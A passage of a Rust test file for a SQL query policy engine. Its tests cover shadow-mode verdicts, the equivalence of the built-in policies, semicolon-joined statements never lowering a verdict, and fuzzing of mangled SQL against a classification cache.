        let o = decide_with(&observe, sql);
        assert_eq!(o.action, Allow, "{sql}");
        assert_eq!(o.shadow, Some(d.action), "{sql}");
        assert_eq!(o.rule, d.rule, "{sql}");
        assert_eq!(o.reason, d.reason, "{sql}");
        let label = match d.action {
            Allow => None,
            Approve => Some("would hold"),
            Block => Some("would block"),
        };
        assert_eq!(o.shadow_label(), label, "{sql}");
        assert_eq!(d.shadow_label(), None);
        assert_eq!(d.shadow, None);
    }
    // Same masking in both.
    assert_eq!(default.mask_table(), observe.mask_table());
}

#[test]
fn builtin_policies_differ_only_in_name_and_mode() {
    assert_eq!(policy::builtin_names(), ["default", "observe"]);
    let strip = |s: &str| {
        s.lines()
            .filter(|l| !l.starts_with('#') && !l.starts_with("name =") && !l.starts_with("mode ="))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(
        strip(include_str!("../src/policy/builtin/default.toml")),
        strip(include_str!("../src/policy/builtin/observe.toml"))
    );
    let p = default_policy();
    assert_eq!(p.approval_timeout(), std::time::Duration::from_secs(300));
    assert_eq!(p.mode(), policy::Mode::Enforce);
    assert!(p.mask_table().contains_key("detectors"));
    assert!(p.mask_table().contains_key("columns"));
}

fn decided(p: &Policy, sql: &str) -> Action {
    decide_with(p, sql).action
}

#[test]
fn joining_statements_never_lowers_the_verdict() {
    // `A; B` is at least as severe as A and as B: smuggling cannot dilute a verdict.
    let p = default_policy();
    for a in CORPUS {
        for b in CORPUS {
            let joined = format!("{a}\n;\n{b}");
            let want = decided(&p, a).max(decided(&p, b));
            assert_eq!(decided(&p, &joined), want, "{joined:?}");
        }
    }
}

#[test]
fn mangled_sql_never_panics_and_the_cache_agrees_with_a_fresh_classification() {
    let mut next = policy_corpus::rng(0x9e37_79b9_7f4a_7c15);
    let p = default_policy();
    // Small, so CLOCK eviction runs all the time; a few texts repeat to hit.
    let mut cache = ClassifyCache::new(64);
    for i in 0..20_000 {
        let s = mangle_from(CORPUS, &mut next);
        let v = p.decide(
            &Identity::default(),
            &TargetRef {
                name: "prod",
                database: "app",
            },
            &Request::Query(&s),
            &mut cache,
        );
        assert_eq!(*v.class, policy::classify::classify(&s), "case {i}: {s:?}");
        // A text with a leading NUL (never one from the wire) is classified uncached.
        if i % 7 == 0 && !s.starts_with('\0') {
            let again = cache.classify(&s);
            assert!(
                std::sync::Arc::ptr_eq(&again, &v.class),
                "case {i}: cache miss after insert"
            );
        }
    }
}
